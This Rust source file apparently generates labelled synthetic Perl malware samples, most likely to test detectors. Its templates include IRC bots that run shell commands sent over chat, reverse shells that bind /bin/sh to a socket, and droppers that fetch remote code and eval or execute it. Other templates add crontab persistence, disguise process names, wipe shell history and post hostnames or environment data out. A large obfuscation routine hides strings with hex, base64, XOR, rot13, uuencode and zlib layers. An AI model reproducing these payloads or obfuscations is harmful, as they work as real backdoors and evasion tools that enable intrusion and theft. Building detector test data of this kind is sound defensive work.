//! Perl: bots of IRC, shells that connect back, loaders with and without modules.

use super::super::{base64, codes, each, hex, keyed, put, quoted, reversed, rot13, xored, zlib};
use super::{Dice, Truth, agent, alphabet, listed, mark, mixed, places, plain, prose};
use std::fmt::Write;

/// An expression whose value is `text`; lines before it go to `before`.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let (name, other) = (dice.name(), dice.name());
    match dice.below(19) {
        0 => match dice.below(3) {
            0 => format!("pack('H*', '{}')", hex(text.as_bytes())),
            1 => format!("pack(\"C*\", {})", codes(text.bytes(), ", ")),
            _ => format!("pack('(H2)*', qw({}))", each(text, " ", |it| format!("{it:02x}"))),
        },
        1 => match dice.below(4) {
            0 => format!("join('', map {{ chr }} ({}))", codes(text.bytes(), ", ")),
            1 => each(text, ".", |it| format!("chr({it})")),
            2 => format!(
                "join('', map {{ chr(hex($_)) }} qw({}))",
                each(text, " ", |it| format!("{it:x}"))
            ),
            _ => {
                let key = dice.key();
                format!("join(\"\", map {{ chr($_ ^ {key}) }} ({}))", codes(xored(text, key), ","))
            }
        },
        2 => {
            let packed = base64(text.as_bytes());
            if dice.chance(50) {
                before.push_str("use MIME::Base64;\n");
                format!("decode_base64('{packed}')")
            } else {
                before.push_str("require MIME::Base64;\n");
                format!("MIME::Base64::decode(\"{packed}\")")
            }
        }
        3 => format!("scalar reverse('{}')", reversed(text)),
        4 => {
            if dice.chance(50) {
                let _ = writeln!(
                    before,
                    "(my ${name} = '{}') =~ tr/A-Za-z/N-ZA-Mn-za-m/;",
                    rot13(text)
                );
                format!("${name}")
            } else {
                let from = "abcdefghijklmnopqrstuvwxyz0123456789";
                let to = dice.shuffled(from);
                let turned: String = text
                    .chars()
                    .map(|it| from.find(it).map_or(it, |at| char::from(to.as_bytes()[at])))
                    .collect();
                let _ = writeln!(before, "my ${name} = '{turned}';\n${name} =~ y/{to}/{from}/;");
                format!("${name}")
            }
        }
        5 => {
            let mark = mark(dice, text, &["#", "ZX", "_K_", "~", "!!", "%%"]);
            let littered = dice.littered(text, &mark);
            let separator = if mark == "!!" { '/' } else { '!' };
            let _ = writeln!(
                before,
                "my ${name} = '{littered}';\n${name} =~ s{separator}{mark}{separator}{separator}g;"
            );
            format!("${name}")
        }
        6 => format!("sprintf('{}', {})", "%c".repeat(text.len()), codes(text.bytes(), ",")),
        7 => {
            let form = dice.pick(&[
                "my $@NAME@ = '@HEX@';\n$@NAME@ =~ s/([a-fA-F0-9]{2})/chr(hex $1)/eg;\n",
                "my $@NAME@ = '@HEX@'; $@NAME@ =~ s/(..)/pack('c', hex($1))/ge;\n",
                "my $@NAME@ = '@PERCENT@';\n$@NAME@ =~ s/%([0-9A-F]{2})/chr(hex($1))/seg;\n",
            ]);
            let percent = each(text, "", |it| format!("%{it:02X}"));
            before.push_str(&put(
                form,
                &[("NAME", &name), ("HEX", &hex(text.as_bytes())), ("PERCENT", &percent)],
            ));
            format!("${name}")
        }
        8 => {
            let coded = uuencoded(text.as_bytes());
            let _ = writeln!(before, "my ${name} = unpack('u', <<'UU');\n{coded}UU");
            format!("${name}")
        }
        9 => match dice.below(3) {
            0 => format!("\"{}\"", each(text, "", |it| format!("\\x{it:02x}"))),
            1 => format!("\"{}\"", each(text, "", |it| format!("\\{it:03o}"))),
            _ => format!("\"{}\"", each(text, "", |it| format!("\\x{{{it:X}}}"))),
        },
        10 => {
            let pieces = dice.pieces(text);
            match dice.below(4) {
                0 => quoted(&pieces, '\'').join(" . "),
                1 => format!("join('', {})", quoted(&pieces, '"').join(", ")),
                2 => {
                    let names: Vec<String> = pieces.iter().map(|_| dice.name()).collect();
                    for at in dice.order(pieces.len()) {
                        let _ = writeln!(before, "my ${} = '{}';", names[at], pieces[at]);
                    }
                    format!(
                        "\"{}\"",
                        names.iter().map(|it| format!("${{{it}}}")).collect::<String>()
                    )
                }
                _ => {
                    let order = dice.order(pieces.len());
                    let list: Vec<String> =
                        order.iter().map(|at| format!("{at} => '{}'", pieces[*at])).collect();
                    let _ = writeln!(before, "my %{name} = ({});", list.join(", "));
                    format!("join('', map {{ ${name}{{$_}} }} sort {{ $a <=> $b }} keys %{name})")
                }
            }
        }
        11 if plain(text) => {
            let letters = alphabet(dice);
            let list = listed(places(text, &letters), ", ");
            if dice.chance(50) {
                let _ = writeln!(before, "my @{name} = split(//, '{letters}');");
                format!("join('', @{name}[{list}])")
            } else {
                let _ = writeln!(before, "my ${name} = '{letters}';");
                format!("join('', map {{ substr(${name}, $_, 1) }} ({list}))")
            }
        }
        12 => {
            // The bitwise operator takes texts.
            let key: String =
                (0..text.len()).map(|_| char::from(b'a' + dice.below(26) as u8)).collect();
            format!("(pack('H*', '{}') ^ '{key}')", hex(&keyed(text, &key)))
        }
        13 => {
            let word = dice.name();
            let _ = writeln!(
                before,
                "sub {name} {{\n    my ($d, $k) = @_;\n    my $r = '';\n    my @d = unpack('C*', pack('H*', $d));\n    for my $i (0 .. $#d) {{\n        $r .= chr($d[$i] ^ ord(substr($k, $i % length($k), 1)));\n    }}\n    return $r;\n}}"
            );
            format!("{name}('{}', '{word}')", hex(&keyed(text, &word)))
        }
        14 => {
            let inner = each(text, ".", |it| format!("chr({it})"));
            format!("eval('{inner}')")
        }
        15 => {
            let by = 1 + dice.below(20);
            let _ = writeln!(
                before,
                "my ${name} = '';\nforeach my ${other} ({}) {{ ${name} .= chr(${other} - {by}); }}",
                text.bytes()
                    .map(|it| (usize::from(it) + by).to_string())
                    .collect::<Vec<_>>()
                    .join(",")
            );
            format!("${name}")
        }
        16 => {
            before.push_str("use Compress::Zlib;\nuse MIME::Base64 ();\n");
            format!(
                "Compress::Zlib::uncompress(MIME::Base64::decode_base64('{}'))",
                base64(&zlib(text.as_bytes()))
            )
        }
        17 => format!("unpack('A*', pack('b*', '{}'))", bits(text.as_bytes())),
        _ => {
            // Every second letter.
            let littered = super::spaced(dice, text, 1);
            let _ = writeln!(before, "my ${name} = join '', '{littered}' =~ /.(.)/g;");
            format!("${name}")
        }
    }
}

fn bits(bytes: &[u8]) -> String {
    bytes.iter().map(|it| format!("{:08b}", it.reverse_bits())).collect()
}

fn uuencoded(bytes: &[u8]) -> String {
    let letter = |value: u8| if value == 0 { '`' } else { char::from(value + 32) };
    let mut out = String::new();
    for line in bytes.chunks(45) {
        out.push(letter(line.len() as u8));
        for three in line.chunks(3) {
            let mut full = [0u8; 3];
            full[..three.len()].copy_from_slice(three);
            let number = u32::from(full[0]) << 16 | u32::from(full[1]) << 8 | u32::from(full[2]);
            for shift in [18, 12, 6, 0] {
                out.push(letter((number >> shift & 63) as u8));
            }
        }
        out.push('\n');
    }
    out
}

fn start(dice: &mut Dice) -> String {
    let mut out = String::from(dice.pick(&[
        "#!/usr/bin/perl\n",
        "#!/usr/bin/perl -w\n",
        "#!/usr/bin/env perl\nuse strict;\nuse warnings;\n",
        "",
    ]));
    for _ in 0..dice.below(4) {
        let (name, number) = (dice.name(), dice.below(9000));
        let text = prose(dice, 5);
        let _ = match dice.below(4) {
            0 => writeln!(out, "# {text}"),
            1 => writeln!(out, "my ${name} = {number};"),
            2 => writeln!(out, "my @{name} = qw({text});"),
            _ => writeln!(out, "sub {name} {{ return $_[0] * {number}; }}"),
        };
    }
    out
}

fn address(dice: &mut Dice, url: &str, before: &mut String) -> String {
    let word = if dice.chance(85) { hide(dice, url, before) } else { format!("'{url}'") };
    if dice.chance(60) || !word.starts_with('$') {
        let name = dice.name();
        let _ = writeln!(before, "my ${name} = {word};");
        format!("${name}")
    } else {
        word
    }
}

/// A dropper of which `truth` tells what it contacts.
pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(14) {
        0 | 1 => bot(dice, truth),
        2 => reverse_socket(dice, truth),
        3 => reverse_module(dice, truth),
        4 => simple(dice, truth),
        5 => user_agent(dice, truth),
        6 => tiny(dice, truth),
        7 => command(dice, truth),
        8 => layers(dice, truth),
        9 => installer(dice, truth),
        10 => web_shell(dice, truth),
        11 => several(dice, truth),
        12 => names(dice, truth),
        _ => after_data(dice, truth),
    }
}

/// A bot of IRC.
fn bot(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = String::from("#!/usr/bin/perl\n");
    let _ = writeln!(out, "# {}", prose(dice, 4));
    let (host, port) = truth.endpoint(dice);
    let word = if dice.chance(60) { hide(dice, &host, &mut out) } else { format!("'{host}'") };
    let (nick, channel, process) = (
        mixed(dice, 4),
        dice.name(),
        dice.pick(&[
            "/usr/sbin/httpd",
            "[kworker/u8:2]",
            "/usr/sbin/apache2 -k start",
            "sshd: root@pts",
        ]),
    );
    let form = dice.pick(&[
        "my $processo = '@PROCESS@';\nmy @titi = ('index.php?page=','main.php?page=');\nmy $linas_max='3';\nmy $sleep='5';\nmy @adms=('@NICK@','root');\nmy @canais=('#@CHANNEL@');\nmy $nick='@NICK@';\nmy $ircname='@NICK@';\nmy $realname='@NICK@';\n$servidor=@HOST@ unless $servidor;\nmy $porta='@PORT@';\nuse IO::Socket;\nuse Socket;\nuse IO::Select;\n$SIG{'INT'}='IGNORE';\n$SIG{'HUP'}='IGNORE';\n$SIG{'TERM'}='IGNORE';\n$0=\"$processo\".\"\\0\";\nour %irc_servers;\nour %DCC;\nmy $dcc_sel = IO::Select->new();\n$sel_cliente = IO::Select->new();\nsub sendraw {\n  if ($#_ == '1') {\n    my $socket = $_[0];\n    print $socket \"$_[1]\\n\";\n  } else {\n    print $IRC_cur_socket \"$_[0]\\n\";\n  }\n}\nsub conectar {\n  my $meunick = $_[0];\n  my $servidor_con = $_[1];\n  my $porta_con = $_[2];\n  my $IRC_socket = IO::Socket::INET->new(Proto=>\"tcp\", PeerAddr=>\"$servidor_con\", PeerPort=>$porta_con) or return(1);\n  if (defined($IRC_socket)) {\n    $IRC_cur_socket = $IRC_socket;\n    $IRC_socket->autoflush(1);\n    $sel_cliente->add($IRC_socket);\n    $irc_servers{$IRC_cur_socket}{'host'} = \"$servidor_con\";\n    $irc_servers{$IRC_cur_socket}{'porta'} = \"$porta_con\";\n    $irc_servers{$IRC_cur_socket}{'nick'} = $meunick;\n    sendraw(\"NICK $meunick\");\n    sendraw(\"USER $ircname 8 * :$realname\");\n    sleep 1;\n  }\n}\nmy $line_temp;\nwhile( 1 ) {\n  while (!(keys(%irc_servers))) { conectar(\"$nick\", \"$servidor\", \"$porta\"); }\n  my @ready = $sel_cliente->can_read(0.6);\n  last unless @ready;\n  foreach $fh (@ready) {\n    $nread = sysread($fh, $msg, 4096);\n    if ($nread == 0) {\n      $sel_cliente->remove($fh);\n      $fh->close;\n      delete($irc_servers{$fh});\n    }\n    foreach my $line (split(/\\n/, $msg)) {\n      if ($line =~ /^PING :(.*)/) { sendraw(\"PONG :$1\"); }\n      if ($line =~ / 001 /) { sendraw(\"JOIN $_\") foreach @canais; }\n    }\n  }\n}\n",
        "use IO::Socket::INET;\nmy $server = @HOST@;\nmy $port = @PORT@;\nmy $chan = '#@CHANNEL@';\nmy $nick = '@NICK@' . int(rand(9999));\n$0 = '@PROCESS@';\nmy $sock = IO::Socket::INET->new(\n    PeerAddr => $server,\n    PeerPort => $port,\n    Proto    => 'tcp',\n    Timeout  => 10,\n) or exit;\nprint $sock \"NICK $nick\\r\\nUSER $nick 8 * :$nick\\r\\n\";\nwhile (my $l = <$sock>) {\n    print $sock \"PONG $1\\r\\n\" if $l =~ /^PING (.*)$/;\n    print $sock \"JOIN $chan\\r\\n\" if $l =~ /376|422/;\n    if ($l =~ /PRIVMSG \\S+ :!x (.*)/) {\n        my @o = `$1 2>&1`;\n        print $sock \"PRIVMSG $chan :$_\\r\\n\" for @o;\n    }\n}\n",
        "use Socket;\nmy ($h, $p) = (@HOST@, @PORT@);\nif (fork) { exit; }\nmy $proto = getprotobyname('tcp');\nsocket(IRC, PF_INET, SOCK_STREAM, $proto) or exit;\nmy $a = sockaddr_in($p, inet_aton($h));\nconnect(IRC, $a) or exit;\nselect(IRC); $| = 1; select(STDOUT);\nprint IRC \"USER @NICK@ 0 * :@NICK@\\n\";\nprint IRC \"NICK @NICK@\\n\";\nwhile (<IRC>) {\n  if (/^PING (.+)$/) { print IRC \"PONG $1\\n\"; }\n  if (/End of .* MOTD/i) { print IRC \"JOIN #@CHANNEL@\\n\"; }\n}\nclose(IRC);\n",
    ]);
    out + &put(
        form,
        &[
            ("PROCESS", process),
            ("NICK", &nick),
            ("CHANNEL", &channel),
            ("HOST", &word),
            ("PORT", &port.to_string()),
        ],
    )
}

/// Shells that connect back through the socket functions.
fn reverse_socket(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = String::new();
    let (host, port) = truth.endpoint(dice);
    let word = if dice.chance(60) { hide(dice, &host, &mut out) } else { format!("\"{host}\"") };
    let form = dice.pick(&[
        "use Socket;$i=@HOST@;$p=@PORT@;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};\n",
        "#!/usr/bin/perl -w\nuse strict;\nuse Socket;\nuse FileHandle;\nmy $VERSION = \"1.0\";\nmy $ip = @HOST@;\nmy $port = @PORT@;\nmy $daemon = 1;\nmy $auth = 0;\nmy $fake_process_name = \"/usr/sbin/apache\";\n$0 = \"[httpd]\";\nmy $global_page = \"\";\nif ($daemon) {\n    my $pid = fork();\n    if ($pid) { exit(0); }\n}\nsocket(SOCK, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nif (connect(SOCK, sockaddr_in($port, inet_aton($ip)))) {\n    open(STDIN, \">&SOCK\");\n    open(STDOUT, \">&SOCK\");\n    open(STDERR, \">&SOCK\");\n    $ENV{'HISTFILE'} = '/dev/null';\n    system(\"w;uname -a;id;pwd\");\n    exec({\"/bin/sh\"} ($fake_process_name, \"-i\"));\n} else {\n    exit(1);\n}\n",
        "use Socket qw(inet_aton pack_sockaddr_in PF_INET SOCK_STREAM);\nmy $t = pack_sockaddr_in(@PORT@, inet_aton(@HOST@));\nsocket(my $s, PF_INET, SOCK_STREAM, 6) or die;\nconnect($s, $t) or die;\nselect($s); $| = 1;\nwhile (my $c = <$s>) { chomp $c; print qx($c 2>&1); }\n",
    ]);
    out + &put(form, &[("HOST", &word), ("PORT", &port.to_string())])
}

/// The same with modules.
fn reverse_module(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let (host, port) = truth.endpoint(dice);
    let word = if dice.chance(60) { hide(dice, &host, &mut out) } else { format!("'{host}'") };
    let name = dice.name();
    let form = dice.pick(&[
        "use IO::Socket;\nmy $@NAME@ = @HOST@;\nmy $c = new IO::Socket::INET(PeerAddr => \"$@NAME@:@PORT@\") or exit;\nSTDIN->fdopen($c, 'r');\nSTDOUT->fdopen($c, 'w');\nwhile (<STDIN>) { system($_); }\n",
        "use IO::Socket::INET;\nmy $@NAME@ = @HOST@;\nmy $s = IO::Socket::INET->new(PeerHost => $@NAME@, PeerPort => '@PORT@', Proto => 'tcp') or die 'no';\n$s->autoflush(1);\nmy $r = '';\nwhile ($s->recv($r, 1024), length $r) { $s->send(`$r`); }\n",
        "use IO::Socket::IP;\nmy %@NAME@ = (PeerAddr => (@HOST@), PeerPort => @PORT@, Type => 1);\nmy $s = IO::Socket::IP->new(%@NAME@) or exit 1;\nopen(STDIN, '<&', $s); open(STDOUT, '>&', $s);\nexec('/bin/sh', '-i');\n",
    ]);
    out + &put(form, &[("NAME", &name), ("HOST", &word), ("PORT", &port.to_string())])
}

/// LWP::Simple.
fn simple(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &["", ".pl", ".txt", ".jpg"]);
    let word = address(dice, &url, &mut out);
    let (name, file) = (dice.name(), dice.name());
    let form = dice.pick(&[
        "use LWP::Simple;\ngetstore(@URL@, '/tmp/@FILE@');\nsystem('perl /tmp/@FILE@ &');\n",
        "use LWP::Simple qw(get);\nmy $@NAME@ = get(@URL@);\neval $@NAME@ if defined $@NAME@;\n",
        "use LWP::Simple;\nmy $@NAME@ = \"/var/tmp/.@FILE@\";\nif (is_success(getstore(@URL@, $@NAME@))) {\n    chmod 0755, $@NAME@;\n    exec($@NAME@);\n}\n",
        "require LWP::Simple;\nLWP::Simple::mirror(@URL@, '/tmp/@FILE@');\ndo '/tmp/@FILE@';\n",
    ]);
    out + &put(form, &[("NAME", &name), ("URL", &word), ("FILE", &file)])
}

/// LWP::UserAgent.
fn user_agent(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &["", ".pl", ".bin", "/gate"]);
    let word = address(dice, &url, &mut out);
    let (name, file) = (dice.name(), dice.name());
    let form = dice.pick(&[
        "use LWP::UserAgent;\nmy $@NAME@ = LWP::UserAgent->new;\n$@NAME@->agent('@AGENT@');\n$@NAME@->timeout(10);\nmy $r = $@NAME@->get(@URL@);\nif ($r->is_success) { eval $r->decoded_content; }\n",
        "use LWP::UserAgent;\nuse HTTP::Request;\nmy $@NAME@ = LWP::UserAgent->new(agent => '@AGENT@', ssl_opts => { verify_hostname => 0 });\nmy $q = HTTP::Request->new(GET => @URL@);\nmy $r = $@NAME@->request($q, '/tmp/@FILE@');\nsystem('chmod +x /tmp/@FILE@; /tmp/@FILE@ &') if $r->is_success;\n",
        "require LWP::UserAgent;\nmy $@NAME@ = 'LWP::User' . 'Agent';\nmy $r = $@NAME@->new->post(@URL@, { h => `hostname`, u => getlogin() || 'x' });\neval($r->content);\n",
        "use LWP::UserAgent;\nmy $@NAME@ = LWP::UserAgent->new();\n$@NAME@->get(@URL@, ':content_file' => '/tmp/.@FILE@');\nexec('/bin/sh', '/tmp/.@FILE@');\n",
    ]);
    out + &put(form, &[("NAME", &name), ("URL", &word), ("AGENT", agent(dice)), ("FILE", &file)])
}

/// HTTP::Tiny.
fn tiny(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &["", ".pl", ".sh"]);
    let word = address(dice, &url, &mut out);
    let (name, file) = (dice.name(), dice.name());
    let form = dice.pick(&[
        "use HTTP::Tiny;\nmy $@NAME@ = HTTP::Tiny->new->get(@URL@);\neval $@NAME@->{content} if $@NAME@->{success};\n",
        "use HTTP::Tiny;\nmy $@NAME@ = HTTP::Tiny->new(agent => '@AGENT@', timeout => 8);\n$@NAME@->mirror(@URL@, '/tmp/@FILE@');\nsystem('sh', '/tmp/@FILE@');\n",
        "require HTTP::Tiny;\nmy $@NAME@ = HTTP::Tiny->new(verify_SSL => 0)->request('POST', @URL@, { content => join(',', %ENV) });\nprint $@NAME@->{status};\n",
    ]);
    out + &put(form, &[("NAME", &name), ("URL", &word), ("AGENT", agent(dice)), ("FILE", &file)])
}

/// A command of the machine.
fn command(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &["", ".sh", ".tgz"]);
    let word = address(dice, &url, &mut out);
    let (name, file) = (dice.name(), dice.name());
    let form = dice.pick(&[
        "system(\"wget -q @URL@ -O /tmp/@FILE@; chmod +x /tmp/@FILE@; /tmp/@FILE@ &\");\n",
        "my $@NAME@ = `curl -s @URL@`;\neval $@NAME@;\n",
        "exec 'sh', '-c', \"curl -fsSL @URL@ | sh\";\n",
        "open(my $@NAME@, '-|', 'curl', '-s', @URL@) or exit;\nmy $code = join('', <$@NAME@>);\nclose($@NAME@);\neval($code);\n",
        "my @@NAME@ = ('wget', '-q', '-O', '/tmp/@FILE@', @URL@);\nsystem(@@NAME@) == 0 and system('perl', '/tmp/@FILE@');\n",
        "my $@NAME@ = qx{wget -qO- @URL@};\nopen(F, '>', '/tmp/@FILE@'); print F $@NAME@; close F;\nsystem 'perl /tmp/@FILE@';\n",
        "unless (fork) {\n    open(P, \"| sh\");\n    print P \"cd /tmp; curl -O @URL@\\n\";\n    close P;\n    exit;\n}\nwait;\n",
    ]);
    out + &put(form, &[("NAME", &name), ("URL", &word), ("FILE", &file)])
}

/// A script in layers that are evaluated.
fn layers(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut inner = match dice.below(4) {
        0 => simple(dice, truth),
        1 => command(dice, truth),
        2 => tiny(dice, truth),
        _ => reverse_module(dice, truth),
    };
    for _ in 0..1 + dice.below(2) {
        let (name, key) = (dice.name(), dice.key());
        inner = match dice.below(6) {
            0 => {
                format!("use MIME::Base64;\neval(decode_base64('{}'));\n", base64(inner.as_bytes()))
            }
            1 => format!("eval pack('H*', '{}');\n", hex(inner.as_bytes())),
            2 => format!(
                "my ${name} = join('', map {{ chr($_ ^ {key}) }} ({}));\neval ${name};\n",
                codes(xored(&inner, key), ",")
            ),
            3 => {
                let lines: String = super::lines(&hex(inner.as_bytes()), 100)
                    .iter()
                    .map(|it| format!("${name} .= '{it}';\n"))
                    .collect();
                format!(
                    "my ${name} = '';\n{lines}${name} =~ s/(..)/chr(hex($1))/ge;\neval(${name});\n"
                )
            }
            4 => {
                let lines = super::lines(&base64(inner.as_bytes()), 76).join("\n");
                format!(
                    "use MIME::Base64 qw(decode_base64);\nmy ${name} = <<'END_OF_IT';\n{lines}\nEND_OF_IT\neval decode_base64(${name});\n"
                )
            }
            _ => format!(
                "eval(scalar(reverse(pack('H*', '{}'))));\n",
                hex(reversed(&inner).as_bytes())
            ),
        };
    }
    inner
}

/// Everything that a bot needs to stay: the crontab, a new name, a copy.
fn installer(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &["", ".pl", ".jpg"]);
    let word = address(dice, &url, &mut out);
    let (file, name) = (dice.name(), dice.name());
    out + &put(
        dice.pick(&[
            "my $@NAME@ = '/var/tmp/.@FILE@';\n$0 = 'crond';\nmy $cron = \"*/10 * * * * wget -q -O - @URL@ | perl >/dev/null 2>&1\";\nsystem(\"(crontab -l 2>/dev/null; echo '$cron') | crontab - 2>/dev/null\");\nfor my $tool ('wget -q -O', 'curl -s -o') {\n    system(\"$tool $@NAME@ @URL@\");\n    last if -s $@NAME@;\n}\nsystem(\"perl $@NAME@\") if -s $@NAME@;\n",
            "use POSIX qw(setsid);\nif (my $pid = fork) { exit 0; }\nsetsid();\nclose(STDIN);\nmy @dirs = grep { -w $_ } ('/dev/shm', '/tmp', '/var/tmp');\nchdir $dirs[0];\nmy $@NAME@ = \"curl -s -L -o .@FILE@ @URL@ || wget -q -O .@FILE@ @URL@\";\nsystem($@NAME@);\nsystem('chmod 700 .@FILE@ && ./.@FILE@ >/dev/null 2>&1');\n",
        ]),
        &[("NAME", &name), ("URL", &word), ("FILE", &file)],
    )
}

/// A page that fetches at once.
fn web_shell(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".txt"]);
    let mut out = String::from("#!/usr/bin/perl\n");
    let word = address(dice, &url, &mut out);
    let (name, file) = (dice.name(), dice.name());
    out + &put(
        "print \"Content-type: text/html\\n\\n\";\nmy $@NAME@ = '/tmp/@FILE@';\nmy $cmd = 'curl -s ' . @URL@ . ' -o ' . $@NAME@;\nprint '<pre>';\nprint `$cmd 2>&1; ls -la $@NAME@`;\nprint '</pre>';\nrequire $@NAME@ if -e $@NAME@ && -s $@NAME@ > 10;\n",
        &[("NAME", &name), ("URL", &word), ("FILE", &file)],
    )
}

/// Several files of one server.
fn several(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let origin = Truth::origin(dice);
    let files: Vec<String> = (0..2 + dice.below(3))
        .map(|_| dice.name() + dice.pick(&[".pl", "", ".x86", ".tgz"]))
        .collect();
    for file in &files {
        truth.joined(&origin, &format!("/{file}"));
    }
    let word = hide(dice, &origin, &mut out);
    let (base, list) = (dice.name(), files.join(" "));
    out + &put(
        dice.pick(&[
            "my $@BASE@ = @URL@;\nforeach my $f (qw(@LIST@)) {\n    system(\"wget -q $@BASE@/$f -O /tmp/$f\");\n    chmod 0755, \"/tmp/$f\";\n}\n",
            "use HTTP::Tiny;\nmy $@BASE@ = @URL@;\nmy $h = HTTP::Tiny->new;\n$h->mirror($@BASE@ . '/' . $_, '/tmp/' . $_) for qw/@LIST@/;\n",
            "use LWP::Simple;\nmy $@BASE@ = @URL@;\nmy @files = qw(@LIST@);\nwhile (my $f = shift @files) {\n    getstore(join('/', $@BASE@, $f), \"/tmp/$f\");\n}\n",
        ]),
        &[("BASE", &base), ("URL", &word), ("LIST", &list)],
    )
}

/// What is called is put together of parts.
fn names(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = String::from("#!/usr/bin/perl\n");
    let url = truth.url(dice, &["", ".sh", ".pl"]);
    let word = address(dice, &url, &mut out);
    let (name, file) = (dice.name(), dice.name());
    out + &put(
        dice.pick(&[
            "my $@NAME@ = join '', map { chr } (99, 117, 114, 108);\nmy @c = ($@NAME@, '-s', '-o', '/tmp/@FILE@', @URL@);\nsystem { $c[0] } @c;\n",
            "my %@NAME@ = (get => sub { system('curl', '-s', '-o', $_[1], $_[0]) }, run => sub { system('sh', $_[0]) });\n$@NAME@{get}->(@URL@, '/tmp/@FILE@');\n$@NAME@{run}->('/tmp/@FILE@');\n",
            "my $@NAME@ = 'HTTP::' . 'Tiny';\neval \"require $@NAME@\";\nmy $m = 'g' . 'et';\nmy $r = $@NAME@->new->$m(@URL@);\neval $r->{content};\n",
            "package @NAME@;\nsub new { my ($c, %o) = @_; return bless { %o }, $c; }\nsub run { my $s = shift; system('wget -q -O /tmp/@FILE@ ' . $s->{u}); return $s; }\npackage main;\n@NAME@->new(u => @URL@)->run;\n",
        ]),
        &[("NAME", &name), ("URL", &word), ("FILE", &file)],
    )
}

/// The script reads what stands behind its end.
fn after_data(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".sh", ".pl"]);
    let name = dice.name();
    let line = put(
        dice.pick(&[
            "system('curl -s @URL@ | sh');\n",
            "use HTTP::Tiny; eval HTTP::Tiny->new->get('@URL@')->{content};\n",
            "my $x = `wget -qO- @URL@`; eval $x;\n",
        ]),
        &[("URL", &url)],
    );
    match dice.below(3) {
        0 => format!(
            "use MIME::Base64;\nmy ${name} = join('', <DATA>);\neval decode_base64(${name});\n__DATA__\n{}\n",
            super::lines(&base64(line.as_bytes()), 60).join("\n")
        ),
        1 => format!(
            "#!/usr/bin/perl\nlocal $/;\nmy ${name} = <DATA>;\n${name} =~ tr/a-zA-Z/n-za-mN-ZA-M/;\neval ${name};\n__END__\n{}",
            rot13(&line)
        ),
        _ => format!(
            "while (my ${name} = <DATA>) {{\n    chomp ${name};\n    my $s = '';\n    $s .= chr(hex($1)) while ${name} =~ /(..)/g;\n    eval $s;\n}}\n__DATA__\n{}\n",
            hex(line.as_bytes())
        ),
    }
}
